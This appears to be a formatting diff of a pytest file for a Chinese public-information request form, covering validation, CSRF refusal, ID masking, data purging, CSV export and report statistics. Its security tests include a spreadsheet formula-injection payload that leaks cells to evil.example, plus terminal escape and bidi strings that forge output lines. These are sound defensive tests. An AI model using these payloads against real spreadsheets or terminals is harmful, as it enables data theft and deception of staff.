@@ -48,18 +48,30 @@ ORG_CODE = make_uscc()
 
 def person_form(**changes) -> dict:
     """A valid application by a citizen; changes override fields."""
-    form = {"applicant_kind": "person", "name": "张三", "id_type": "ric",
-            "id_number": PERSON_ID, "phone": "138 0000 1234", "email": "", "address": "",
-            "description": "2024年科技项目资金分配结果", "title": "", "doc_number": "",
-            "index_number": "", "form": "electronic", "delivery": "collect"}
+    form = {
+        "applicant_kind": "person",
+        "name": "张三",
+        "id_type": "ric",
+        "id_number": PERSON_ID,
+        "phone": "138 0000 1234",
+        "email": "",
+        "address": "",
+        "description": "2024年科技项目资金分配结果",
+        "title": "",
+        "doc_number": "",
+        "index_number": "",
+        "form": "electronic",
+        "delivery": "collect",
+    }
     form.update(changes)
     return form
 
 
 def organisation_form(**changes) -> dict:
     """A valid application by a research institute."""
-    form = person_form(applicant_kind="research", name="某某研究所", id_type="", id_number="",
-                       uscc=ORG_CODE)
+    form = person_form(
+        applicant_kind="research", name="某某研究所", id_type="", id_number="", uscc=ORG_CODE
+    )
     form.update(changes)
     return form
 
@@ -80,8 +92,7 @@ def store(database) -> ApplicationStore:
 
 
 def submit(client, form: dict, headers=SAME_SITE, address: str = "192.0.2.1"):
-    return client.post("/apply/", data=form, headers=headers,
-                       environ_base={"REMOTE_ADDR": address})
+    return client.post("/apply/", data=form, headers=headers, environ_base={"REMOTE_ADDR": address})
 
 
 # --- The form ---------------------------------------------------------------------------------
@@ -140,53 +151,64 @@ def test_a_missing_radio_choice_links_to_its_first_option(client, database):
     assert soup.find(id="field-applicant_kind")["value"] == "person"
 
 
-@pytest.mark.parametrize(("form", "field"), [
-    (person_form(applicant_kind="citizen"), "applicant_kind"),
-    (person_form(name="  "), "name"),
-    (person_form(name="名" * 101), "name"),
-    (person_form(id_type=""), "id_type"),
-    (person_form(id_number=""), "id_number"),
-    (person_form(id_number=wrong_check_digit(PERSON_ID)), "id_number"),
-    (person_form(id_number=PERSON_ID[:-1]), "id_number"),
-    (person_form(id_number=make_ric(birth="19901345")), "id_number"),
-    (person_form(id_type="passport", id_number="E" * 41), "id_number"),
-    (organisation_form(uscc=""), "uscc"),
-    (organisation_form(uscc=wrong_check_digit(ORG_CODE)), "uscc"),
-    (organisation_form(uscc=ORG_CODE[:-2]), "uscc"),
-    (person_form(phone=""), "phone"),
-    (person_form(phone="call me"), "phone"),
-    (person_form(phone="12345"), "phone"),
-    (person_form(email="not-an-address"), "email"),
-    (person_form(delivery="email"), "email"),
-    (person_form(delivery="post"), "address"),
-    (person_form(address="地" * 301), "address"),
-    (person_form(description=""), "description"),
-    (person_form(description="述" * 2001), "description"),
-    (person_form(doc_number="号" * 101), "doc_number"),
-    (person_form(form="fax"), "form"),
-    (person_form(delivery="pigeon"), "delivery"),
-])
+@pytest.mark.parametrize(
+    ("form", "field"),
+    [
+        (person_form(applicant_kind="citizen"), "applicant_kind"),
+        (person_form(name="  "), "name"),
+        (person_form(name="名" * 101), "name"),
+        (person_form(id_type=""), "id_type"),
+        (person_form(id_number=""), "id_number"),
+        (person_form(id_number=wrong_check_digit(PERSON_ID)), "id_number"),
+        (person_form(id_number=PERSON_ID[:-1]), "id_number"),
+        (person_form(id_number=make_ric(birth="19901345")), "id_number"),
+        (person_form(id_type="passport", id_number="E" * 41), "id_number"),
+        (organisation_form(uscc=""), "uscc"),
+        (organisation_form(uscc=wrong_check_digit(ORG_CODE)), "uscc"),
+        (organisation_form(uscc=ORG_CODE[:-2]), "uscc"),
+        (person_form(phone=""), "phone"),
+        (person_form(phone="call me"), "phone"),
+        (person_form(phone="12345"), "phone"),
+        (person_form(email="not-an-address"), "email"),
+        (person_form(delivery="email"), "email"),
+        (person_form(delivery="post"), "address"),
+        (person_form(address="地" * 301), "address"),
+        (person_form(description=""), "description"),
+        (person_form(description="述" * 2001), "description"),
+        (person_form(doc_number="号" * 101), "doc_number"),
+        (person_form(form="fax"), "form"),
+        (person_form(delivery="pigeon"), "delivery"),
+    ],
+)
 def test_each_field_is_validated(form, field):
     _cleaned, errors = applications.validate(form)
     assert list(errors) == [field]
 
 
-@pytest.mark.parametrize("form", [
-    person_form(),
-    person_form(id_number=PERSON_ID[:-1] + PERSON_ID[-1].lower()),
-    person_form(id_number=make_ric(sequence="001")),
-    person_form(id_type="passport", id_number="E12345678"),
-    person_form(phone="+86 951-1234567", email="a@example.com", delivery="email"),
-    person_form(address="灵武市某路1号", delivery="post", form="paper"),
-    organisation_form(),
-    organisation_form(applicant_kind="business", uscc=ORG_CODE.lower()),
-    organisation_form(applicant_kind="other", uscc=make_uscc("12640181000000000")),
-])
+@pytest.mark.parametrize(
+    "form",
+    [
+        person_form(),
+        person_form(id_number=PERSON_ID[:-1] + PERSON_ID[-1].lower()),
+        person_form(id_number=make_ric(sequence="001")),
+        person_form(id_type="passport", id_number="E12345678"),
+        person_form(phone="+86 951-1234567", email="a@example.com", delivery="email"),
+        person_form(address="灵武市某路1号", delivery="post", form="paper"),
+        organisation_form(),
+        organisation_form(applicant_kind="business", uscc=ORG_CODE.lower()),
+        organisation_form(applicant_kind="other", uscc=make_uscc("12640181000000000")),
+    ],
+)
 def test_valid_applications_have_no_errors(form):
     cleaned, errors = applications.validate(form)
     assert errors == {}
-    assert cleaned["id_number"] in (PERSON_ID, "E12345678", ORG_CODE,
-                                    make_ric(sequence="001"), make_uscc("12640181000000000"))
+    assert cleaned["id_number"] in (
+        PERSON_ID,
+        "E12345678",
+        ORG_CODE,
+        make_ric(sequence="001"),
+        make_uscc("12640181000000000"),
+    )
 
 
 def test_an_organisation_is_not_asked_for_a_personal_id():
@@ -202,12 +224,15 @@ def test_the_honeypot_filled_in_stores_nothing(client, store):
     assert store.all() == []
 
 
-@pytest.mark.parametrize("headers", [
-    {"Origin": "https://evil.example"},
-    {"Referer": "https://evil.example/form"},
-    {"Origin": "null"},
-    {},
-])
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"Origin": "https://evil.example"},
+        {"Referer": "https://evil.example/form"},
+        {"Origin": "null"},
+        {},
+    ],
+)
 def test_a_post_from_another_site_is_refused(client, store, headers):
     response = submit(client, person_form(), headers=headers)
     assert response.status_code == 400
@@ -243,12 +268,10 @@ def test_the_id_number_is_never_logged(client, database, caplog):
 
 def test_the_deadline_counts_working_days_across_the_national_day_week():
     # 2024-09-28 (Sat) and 10-12 (Sat) are make-up working days; 10-01 to 10-07 are holidays.
-    assert applications.reply_due(datetime.date(2024, 9, 27)) == (datetime.date(2024, 10, 30),
-                                                                  True)
+    assert applications.reply_due(datetime.date(2024, 9, 27)) == (datetime.date(2024, 10, 30), True)
 
 
-def test_the_deadline_in_a_year_the_calendar_does_not_know_says_so(client, database,
-                                                                    monkeypatch):
+def test_the_deadline_in_a_year_the_calendar_does_not_know_says_so(client, database, monkeypatch):
     monkeypatch.setattr(applications, "today", lambda: datetime.date(2099, 3, 2))
     response = submit(client, person_form())
     soup = audit_page(response.get_data(as_text=True))
@@ -285,8 +308,12 @@ def test_concurrent_submissions_are_all_stored(store, database):
         own = ApplicationStore(database)  # as each worker process has its own connection
         barrier.wait()
         try:
-            codes.append(own.submit(applications.validate(person_form(name=f"申请人{index}"))[0],
-                                    datetime.date(2024, 5, 6)).code)
+            codes.append(
+                own.submit(
+                    applications.validate(person_form(name=f"申请人{index}"))[0],
+                    datetime.date(2024, 5, 6),
+                ).code
+            )
         except Exception as error:  # pragma: no cover - reported below
             failures.append(error)
 
@@ -310,7 +337,11 @@ def test_purge_erases_personal_fields_and_keeps_the_statistics(store):
     erased = store.get(old.code)
     assert all(getattr(erased, name) is None for name in applications.PERSONAL)
     assert (erased.applicant_kind, erased.outcome, erased.received, erased.replied) == (
-        "person", "granted", "2020-03-02", "2020-03-20")
+        "person",
+        "granted",
+        "2020-03-02",
+        "2020-03-20",
+    )
     assert store.get(recent.code).id_number == PERSON_ID
     assert store.get(open_one.code).name == "张三"
 
@@ -324,8 +355,12 @@ def test_ids_are_masked():
 
 
 def track(client, code: str, last4: str, address: str = "192.0.2.9", headers=SAME_SITE):
-    return client.post("/apply/track", data={"code": code, "phone_last4": last4},
-                       headers=headers, environ_base={"REMOTE_ADDR": address})
+    return client.post(
+        "/apply/track",
+        data={"code": code, "phone_last4": last4},
+        headers=headers,
+        environ_base={"REMOTE_ADDR": address},
+    )
 
 
 def test_tracking_form_page_is_accessible(page, database):
@@ -347,8 +382,9 @@ def test_tracking_shows_the_status_with_the_right_code_and_phone(client, store):
 
 def test_tracking_with_a_wrong_second_factor_shows_nothing(client, store):
     app = store.submit(applications.validate(person_form())[0], datetime.date(2024, 9, 27))
-    other = store.submit(applications.validate(person_form(phone="13900004321"))[0],
-                         datetime.date(2024, 9, 27))
+    other = store.submit(
+        applications.validate(person_form(phone="13900004321"))[0], datetime.date(2024, 9, 27)
+    )
     response = track(client, app.code, "4321")
     assert response.status_code == 400
     soup = audit_page(response.get_data(as_text=True))
@@ -366,8 +402,10 @@ def test_only_four_ascii_digits_can_match_a_phone(store, last4):
 
 def test_tracking_from_another_site_is_refused(client, store):
     app = store.submit(applications.validate(person_form())[0], datetime.date(2024, 9, 27))
-    assert track(client, app.code, "1234", headers={"Origin": "https://evil.example"}
-                 ).status_code == 400
+    assert (
+        track(client, app.code, "1234", headers={"Origin": "https://evil.example"}).status_code
+        == 400
+    )
 
 
 def test_repeated_wrong_guesses_are_throttled(client, store):
@@ -392,8 +430,7 @@ def cli(database, *args):
 def test_staff_list_masks_id_numbers_and_filters_by_due_date(store, database, monkeypatch):
     monkeypatch.setattr(applications, "today", lambda: datetime.date(2024, 10, 25))
     soon = store.submit(applications.validate(person_form())[0], datetime.date(2024, 9, 27))
-    later = store.submit(applications.validate(organisation_form())[0],
-                         datetime.date(2024, 10, 21))
+    later = store.submit(applications.validate(organisation_form())[0], datetime.date(2024, 10, 21))
     listing = cli(database, "list").output
     assert PERSON_ID not in listing and ORG_CODE not in listing
     assert applications.mask(PERSON_ID) in listing
@@ -407,10 +444,13 @@ def test_staff_list_masks_id_numbers_and_filters_by_due_date(store, database, mo
 def test_staff_update_records_the_outcome(store, database):
     app = store.submit(applications.validate(person_form())[0], datetime.date(2024, 9, 27))
     cli(database, "update", app.code, "--outcome", "partly_granted", "--replied", "2024-10-15")
-    assert (store.get(app.code).outcome, store.get(app.code).replied) == ("partly_granted",
-                                                                          "2024-10-15")
-    result = CliRunner().invoke(main, ["applications", "--db", str(database), "update",
-                                       app.code, "--outcome", "withheld_9"])
+    assert (store.get(app.code).outcome, store.get(app.code).replied) == (
+        "partly_granted",
+        "2024-10-15",
+    )
+    result = CliRunner().invoke(
+        main, ["applications", "--db", str(database), "update", app.code, "--outcome", "withheld_9"]
+    )
     assert result.exit_code != 0
 
 
@@ -426,19 +466,33 @@ def test_csv_export_has_no_id_numbers(store, database, tmp_path):
     assert len(rows) == 2 and "id_number" not in rows[0] and rows[0]["name"]
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1&A2,"点击查看")', "+1", "-2+3",
-            "@SUM(A1)", "\t=1", "\r=1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"点击查看")',
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
 
 
 def test_csv_export_neutralises_formulas_from_applicants(client, store, database, tmp_path):
     # Through the form, as a visitor would send them (the form trims leading tabs and CRs) ...
     for formula in FORMULAS:
-        assert submit(client, person_form(name=formula, description=formula, title=formula),
-                      address=f"198.51.100.{len(store.all())}").status_code == 200
+        assert (
+            submit(
+                client,
+                person_form(name=formula, description=formula, title=formula),
+                address=f"198.51.100.{len(store.all())}",
+            ).status_code
+            == 200
+        )
     # ... and stored as they are, as a record that bypassed the form would be.
     for formula in FORMULAS:
-        cleaned = applications.validate(person_form())[0] | {"name": formula,
-                                                              "description": formula}
+        cleaned = applications.validate(person_form())[0] | {
+            "name": formula,
+            "description": formula,
+        }
         store.submit(cleaned, datetime.date(2024, 9, 27))
     target = tmp_path / "applications.csv"
     cli(database, "export", str(target))
@@ -457,8 +511,25 @@ def test_csv_export_neutralises_formulas_from_applicants(client, store, database
 
 # Characters that rewrite what a terminal shows: line breaks of every kind, escape sequences,
 # and bidi controls that reorder what follows them.
-FORGERS = ["\n", "\r", "\x85", "\u2028", "\u2029", "\x9b", "\u202e", "\u202d", "\u2066",
-           "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\ufeff"]
+FORGERS = [
+    "\n",
+    "\r",
+    "\x85",
+    "\u2028",
+    "\u2029",
+    "\x9b",
+    "\u202e",
+    "\u202d",
+    "\u2066",
+    "\u2067",
+    "\u2068",
+    "\u2069",
+    "\u200e",
+    "\u200f",
+    "\u061c",
+    "\u200b",
+    "\ufeff",
+]
 FAKE_LINE = "\nABCD-EFGH-JKMN  2024-01-01  due 2024-02-01  answered    person     "
 
 
@@ -469,10 +540,22 @@ def visible_only(line: str) -> bool:
 def test_staff_commands_show_control_and_bidi_characters_as_escapes(client, store, database):
     name = "张三\u202e4321 \u2066" + FAKE_LINE + "王五"
     description = "需要" + "".join(FORGERS) + "\x1b[2J" + FAKE_LINE
-    assert submit(client, person_form(name=name, description=description, id_type="passport",
-                                      id_number="E1\u202e2345678\u2028")).status_code == 200
+    assert (
+        submit(
+            client,
+            person_form(
+                name=name,
+                description=description,
+                id_type="passport",
+                id_number="E1\u202e2345678\u2028",
+            ),
+        ).status_code
+        == 200
+    )
     cleaned = applications.validate(person_form())[0] | {
-        "name": "\x1b]0;owned\x07\x1b[2J李四\r赵六", "title": "\u202e\n"}
+        "name": "\x1b]0;owned\x07\x1b[2J李四\r赵六",
+        "title": "\u202e\n",
+    }
     store.submit(cleaned, datetime.date(2024, 9, 27))
     listing = cli(database, "list").stdout.splitlines()
     assert len(listing) == 2
@@ -494,8 +577,10 @@ def test_staff_commands_show_control_and_bidi_characters_as_escapes(client, stor
 
 def test_staff_commands_never_create_a_missing_database(tmp_path):
     missing = tmp_path / "moved" / "applications.sqlite3"
-    for args in (["applications", "--db", str(missing), "list"],
-                 ["report-stats", "2024", "--organisation", "某局", "--db", str(missing)]):
+    for args in (
+        ["applications", "--db", str(missing), "list"],
+        ["report-stats", "2024", "--organisation", "某局", "--db", str(missing)],
+    ):
         result = CliRunner().invoke(main, args)
         assert result.exit_code == 1
         assert "cannot use the applications database" in result.stderr
@@ -507,47 +592,80 @@ def test_staff_commands_never_create_a_missing_database(tmp_path):
 
 
 def record(code, received, kind, outcome=None, replied=None) -> Application:
-    return Application(code=code, received=received, applicant_kind=kind, name=None,
-                       id_type=None, id_number=None, phone=None, email=None, address=None,
-                       description=None, title=None, doc_number=None, index_number=None,
-                       form="paper", delivery="post", due="", calendar_known=1,
-                       outcome=outcome, replied=replied)
+    return Application(
+        code=code,
+        received=received,
+        applicant_kind=kind,
+        name=None,
+        id_type=None,
+        id_number=None,
+        phone=None,
+        email=None,
+        address=None,
+        description=None,
+        title=None,
+        doc_number=None,
+        index_number=None,
+        form="paper",
+        delivery="post",
+        due="",
+        calendar_known=1,
+        outcome=outcome,
+        replied=replied,
+    )
 
 
 FIXTURE_RECORDS = [
-    record("A1", "2023-05-01", "person", "granted", "2023-05-20"),        # answered last year
-    record("A2", "2023-12-20", "person", "granted", "2024-01-10"),        # carried over
+    record("A1", "2023-05-01", "person", "granted", "2023-05-20"),  # answered last year
+    record("A2", "2023-12-20", "person", "granted", "2024-01-10"),  # carried over
     record("A3", "2023-12-28", "business", "unavailable_not_held", "2024-01-15"),
-    record("A4", "2023-12-29", "legal"),                                  # carried over, open
+    record("A4", "2023-12-29", "legal"),  # carried over, open
     record("A5", "2024-02-01", "person", "granted", "2024-02-20"),
     record("A6", "2024-03-01", "person", "partly_granted", "2024-03-25"),
     record("A7", "2024-04-01", "research", "withheld_third_party", "2024-04-20"),
     record("A8", "2024-06-01", "nonprofit", "other_no_correction", "2024-07-20"),
-    record("A9", "2024-12-20", "person", "granted", "2025-01-08"),        # carried forward
-    record("B1", "2024-12-30", "other"),                                  # carried forward
-    record("B2", "2025-01-05", "person"),                                 # next year
+    record("A9", "2024-12-20", "person", "granted", "2025-01-08"),  # carried forward
+    record("B1", "2024-12-30", "other"),  # carried forward
+    record("B2", "2025-01-05", "person"),  # next year
 ]
 
 
 def test_table3_from_records_matches_the_hand_computed_table():
     values = applications.table3_values(FIXTURE_RECORDS, 2024)
     assert values == {
-        "table3.new.person": 3, "table3.new.research": 1, "table3.new.nonprofit": 1,
-        "table3.new.other": 1, "table3.new.total": 6,
-        "table3.carried_over.person": 1, "table3.carried_over.business": 1,
-        "table3.carried_over.legal": 1, "table3.carried_over.total": 3,
-        "table3.granted.person": 2, "table3.granted.total": 2,
-        "table3.partly_granted.person": 1, "table3.partly_granted.total": 1,
-        "table3.unavailable_not_held.business": 1, "table3.unavailable_not_held.total": 1,
-        "table3.withheld_third_party.research": 1, "table3.withheld_third_party.total": 1,
-        "table3.other_no_correction.nonprofit": 1, "table3.other_no_correction.total": 1,
-        "table3.total.person": 3, "table3.total.business": 1, "table3.total.research": 1,
-        "table3.total.nonprofit": 1, "table3.total.total": 6,
-        "table3.carried_forward.person": 1, "table3.carried_forward.legal": 1,
-        "table3.carried_forward.other": 1, "table3.carried_forward.total": 3,
+        "table3.new.person": 3,
+        "table3.new.research": 1,
+        "table3.new.nonprofit": 1,
+        "table3.new.other": 1,
+        "table3.new.total": 6,
+        "table3.carried_over.person": 1,
+        "table3.carried_over.business": 1,
+        "table3.carried_over.legal": 1,
+        "table3.carried_over.total": 3,
+        "table3.granted.person": 2,
+        "table3.granted.total": 2,
+        "table3.partly_granted.person": 1,
+        "table3.partly_granted.total": 1,
+        "table3.unavailable_not_held.business": 1,
+        "table3.unavailable_not_held.total": 1,
+        "table3.withheld_third_party.research": 1,
+        "table3.withheld_third_party.total": 1,
+        "table3.other_no_correction.nonprofit": 1,
+        "table3.other_no_correction.total": 1,
+        "table3.total.person": 3,
+        "table3.total.business": 1,
+        "table3.total.research": 1,
+        "table3.total.nonprofit": 1,
+        "table3.total.total": 6,
+        "table3.carried_forward.person": 1,
+        "table3.carried_forward.legal": 1,
+        "table3.carried_forward.other": 1,
+        "table3.carried_forward.total": 3,
     }
-    reports = [applications.table3_report(FIXTURE_RECORDS, year, "灵武市科学技术局")
-               for year in (2023, 2024, 2025)]
+    reports = [
+        applications.table3_report(FIXTURE_RECORDS, year, "灵武市科学技术局")
+        for year in (2023, 2024, 2025)
+    ]
     for report in reports:
         assert validate_report(report) == []
     assert check_carry_over(reports[0], reports[1]) == []
@@ -555,13 +673,23 @@ def test_table3_from_records_matches_the_hand_computed_table():
 
 
 def test_report_stats_writes_the_annual_report_data_format(store, database, tmp_path):
-    app = store.submit(applications.validate(organisation_form())[0],
-                       datetime.date(2024, 9, 27))
+    app = store.submit(applications.validate(organisation_form())[0], datetime.date(2024, 9, 27))
     store.update(app.code, outcome="granted", replied=datetime.date(2024, 10, 8))
     store.submit(applications.validate(person_form())[0], datetime.date(2024, 12, 30))
     target = tmp_path / "stats.report.yml"
-    result = CliRunner().invoke(main, ["report-stats", "2024", "--organisation", "灵武市科学技术局",
-                                       "--out", str(target), "--db", str(database)])
+    result = CliRunner().invoke(
+        main,
+        [
+            "report-stats",
+            "2024",
+            "--organisation",
+            "灵武市科学技术局",
+            "--out",
+            str(target),
+            "--db",
+            str(database),
+        ],
+    )
     assert result.exit_code == 0, result.output
     report = parse_report(target.read_text(encoding="utf-8"), target)
     assert (report.organisation, report.year) == ("灵武市科学技术局", 2024)
